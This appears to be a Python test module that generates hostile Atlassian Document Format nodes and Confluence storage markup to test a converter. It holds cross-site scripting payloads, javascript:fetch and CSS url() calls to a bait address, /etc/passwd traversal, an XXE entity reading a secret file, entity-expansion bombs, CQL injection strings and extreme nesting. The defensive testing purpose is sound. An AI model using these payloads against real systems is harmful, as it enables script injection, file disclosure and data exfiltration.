"""Structure and storage: the same wishes, written as ADF beside the HTML or as storage format."""

from __future__ import annotations

import json
from collections.abc import Iterator, Sequence
from typing import Any

from tests.attacks.attack import Attack, Bait, listed

Node = dict[str, Any]


def attacks(bait: Bait) -> Iterator[Attack]:
    for name, nodes in _nodes(bait).items():
        yield Attack(f"Structure {name}", _html(nodes), adf=_document(nodes))
    for name, text in _unreadable().items():
        yield Attack(f"Structure {name}", "<p>words</p>", adf=text)
    yield from listed(_storage(bait), "Storage")
    panels = '<ac:structured-macro ac:name="panel"><ac:rich-text-body>' * 2_000
    yield Attack("Storage nesting", f"{panels}<p>innermost words</p>", shows="innermost words")


def _document(nodes: Sequence[Any]) -> Node:
    return {"type": "doc", "version": 1, "content": list(nodes)}


def _html(nodes: Sequence[Any]) -> str:
    """What the HTML shows of it, so that nodes and elements can be laid beside each other."""
    return "".join(_WRITTEN.get(node.get("type"), "<p>words</p>") for node in nodes)


_WRITTEN = {
    "panel": '<div class="panel"><div class="panelContent"><p>words</p></div></div>',
    "codeBlock": '<div class="code panel"><pre class="syntaxhighlighter-pre">words</pre></div>',
    "table": "<table><tbody><tr><td>words</td><td>words</td></tr></tbody></table>",
    "decisionList": '<ul class="decision-list"><li>words</li></ul>',
    "mediaSingle": '<p><img class="confluence-embedded-image" src="words.png"></p>',
    "layoutSection": (
        '<div class="columnLayout" data-layout="two-equal"><div class="cell"><p>words</p></div>'
        "</div>"
    ),
}


def _text(text: str, *marks: Node) -> Node:
    return {"type": "text", "text": text, "marks": list(marks)}


def _paragraph(*content: Node) -> Node:
    return {"type": "paragraph", "content": list(content)}


def _extension(key: str, **parameters: Any) -> Node:
    macro = {name: {"value": value} for name, value in parameters.items()}
    attrs = {
        "extensionType": "com.atlassian.confluence.macro.core",
        "extensionKey": key,
        "parameters": {"macroParams": macro, "macroMetadata": {"title": f"<img src=x> {key}"}},
    }
    return {"type": "extension", "attrs": attrs}


def _nodes(bait: Bait) -> dict[str, list[Node]]:
    address, evil = bait.web("adf"), f'"><img src="{bait.web("adf-html")}"><b x="'
    media = {"type": "external", "url": address, "id": evil, "collection": evil, "alt": evil}
    local = {"type": "file", "id": "../../etc/passwd", "url": bait.file, "alt": bait.file}
    cell: Node = {"type": "tableCell", "attrs": {"colwidth": [10**9, -1], "background": evil}}
    datasource = {
        "id": "768fc736-3af4-4a8f-b27e-203602bff8ca",
        "parameters": {"cloudId": "x", "jql": 'x" or 1=1 --', "url": address},
        "views": [{"type": "table", "properties": {"columns": [{"key": evil}]}}],
    }
    return {
        "pictures": [
            {
                "type": "mediaSingle",
                "attrs": {"width": 10**12, "layout": evil},
                "content": [
                    {"type": "media", "attrs": attrs},
                    {"type": "caption", "content": [_text(evil)]},
                ],
            }
            for attrs in (media, local)
        ],
        "marks": [
            _paragraph(
                _text(
                    "words",
                    {"type": "textColor", "attrs": {"color": f"red; background: url({address})"}},
                    {"type": "backgroundColor", "attrs": {"color": f"url({address})"}},
                    {"type": "link", "attrs": {"href": f"javascript:fetch('{address}')"}},
                    {"type": "annotation", "attrs": {"id": evil}},
                )
            )
        ],
        "panels": [
            {
                "type": "panel",
                "attrs": {
                    "panelType": evil,
                    "panelColor": f"url({address})",
                    "panelIcon": evil,
                    "panelIconText": icon,
                    "panelIconId": "../../x",
                },
                "content": [_paragraph(_text("words"))],
            }
            for icon in (evil, "<script>", "\u202e" * 16)
        ],
        "code": [{"type": "codeBlock", "attrs": {"language": evil}, "content": [_text("words")]}],
        "tables": [
            {
                "type": "table",
                "attrs": {"width": 10**15, "layout": evil},
                "content": [{"type": "tableRow", "content": [cell, cell]}],
            }
        ],
        "layouts": [
            {
                "type": "layoutSection",
                "content": [{"type": "layoutColumn", "attrs": {"width": "1e999"}}] * 200,
            }
        ],
        "macros": [
            _extension("html", __bodyContent=f'<img src="{address}">'),
            _extension("iframe", src=address, url=bait.file),
            _extension("include", page="../../../etc/passwd", spaceKey=evil),
            _extension("drawio", diagramName="../../../etc/passwd", baseUrl=address),
            _extension("gliffy", name=bait.file, url=address),
            _extension("markdown", markdown=f"![x]({address}) <img src='{address}'>"),
            _extension("plantuml", data=f"!include {address}\n!include /etc/passwd"),
            _extension("mathblock", body=f"\\href{{{address}}}{{x}} \\input{{{bait.secret}}}"),
            _extension("contentbylabel", cql='label = "x" or type = page', labels=evil),
            _extension("detailssummary", cql='space = "x") or (type = page', headings=evil),
            _extension("rss", url=address),
            _extension("widget", url=address),
        ],
        "cards": [
            {"type": "blockCard", "attrs": {"url": address, "datasource": datasource}},
            {"type": "embedCard", "attrs": {"url": f"{address}2", "originalWidth": 10**9}},
        ],
    }


def _unreadable() -> dict[str, str]:
    """Not what ADF says it is: of another shape, endless, or no JSON at all."""
    deep = '{"type":"panel","content":['
    wrong: list[Any] = [
        None,
        1,
        [],
        {"type": None, "content": {"a": 1}},
        {"type": ["panel"], "attrs": ["x"], "marks": {"a": 1}, "content": "text"},
        {"type": "text", "text": {"a": "b"}},
        {"type": "text", "text": "\ud800\udfff\x00\x08", "marks": [None, "x", {"type": {}}]},
        {"type": "table", "attrs": {"colwidth": {"a": 1}}, "content": [[], {}]},
        {"type": "extension", "attrs": {"parameters": [1], "extensionKey": {"a": 1}}},
        {"type": "extension", "attrs": {"parameters": {"macroParams": "x"}, "text": ["x"]}},
        {"type": "inlineCard", "attrs": {"url": {"a": 1}, "datasource": [1]}},
    ]
    return {
        "that is deep": deep * 50_000 + "]}" * 50_000,
        "of deep lists": "[" * 100_000,
        "of wrong shapes": json.dumps(_document(wrong * 3)),
        "of many nodes": json.dumps(_document([{"type": "rule"}] * 210_000)),
        "of huge numbers": '{"type":"doc","content":[{"type":"panel","attrs":{"width":'
        + "9" * 5_000
        + "}}]}",
        "of no numbers": '{"type":"doc","content":[{"type":"table","attrs":{"width":NaN}}]}',
        "that is HTML": "<html><script>alert(1)</script></html>",
        "that is a path": "/etc/passwd",
        "cut short": '{"type":"doc","content":[{"type":"para',
    }


def _storage(bait: Bait) -> dict[str, str]:
    address = bait.web("storage")
    secret = bait.file

    def macro(name: str, inner: str) -> str:
        return f'<ac:structured-macro ac:name="{name}">{inner}</ac:structured-macro>'

    def parameter(name: str, value: str) -> str:
        return f'<ac:parameter ac:name="{name}">{value}</ac:parameter>'

    def text(value: str) -> str:
        return f"<ac:plain-text-body><![CDATA[{value}]]></ac:plain-text-body>"

    return {
        "pictures": "".join(
            f'<ac:image ac:src="{x}" ac:width="9999999"><ri:url ri:value="{x}"/></ac:image>'
            f'<ac:image><ri:attachment ri:filename="{x}"><ri:page ri:content-title="{x}"/>'
            "</ri:attachment></ac:image>"
            for x in (address, secret, "/etc/passwd", "../../../etc/passwd")
        ),
        "macros": "".join(
            macro(name, parameter("url", x) + parameter("src", x) + parameter("page", x) + text(x))
            for name in ("html", "iframe", "rss", "widget", "include", "excerpt-include", "drawio",
                         "view-file", "viewpdf", "multimedia", "html-include", "gallery", "code")
            for x in (address, secret)
        ),
        "markup in text": macro("code", text(f'</pre><img src="{address}"><script>x</script>'))
        + macro("noformat", text(f"]]>]]&gt;<img src='{address}'>"))
        + macro("html", text(f'<img src="{address}"><style>@import "{address}"</style>')),
        "entities": (
            f'<!DOCTYPE a [<!ENTITY x SYSTEM "{secret}"><!ENTITY % y SYSTEM "{address}"> %y;'
            '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
            '<ac:link ac:anchor="x"/><p>&x; &b; &y; &nbsp;</p>'
        ),
        "links": "".join(
            f'<ac:link><ri:attachment ri:filename="{x}"/></ac:link><ac:link><ri:page'
            f' ri:content-title="{x}" ri:space-key="{x}"/><ac:link-body><img src="{address}"/>'
            f'</ac:link-body></ac:link><ac:link><ri:user ri:account-id="../../{x}"/></ac:link>'
            for x in ("../../../etc/passwd", "javascript:alert(1)", secret, "&quot;&gt;&lt;b&gt;")
        ),
        "open elements": '<ac:layout><ac:layout-section ac:type="two_equal"><ac:layout-cell><ac:',
        "emoji and times": (
            f'<ac:emoticon ac:name="{address}" ac:emoji-fallback="&lt;img src={address}&gt;"/>'
            f'<time datetime="{address}"/><ac:inline-comment-marker ac:ref="{address}">x'
            "</ac:inline-comment-marker>"
        ),
    }  # fmt: skip
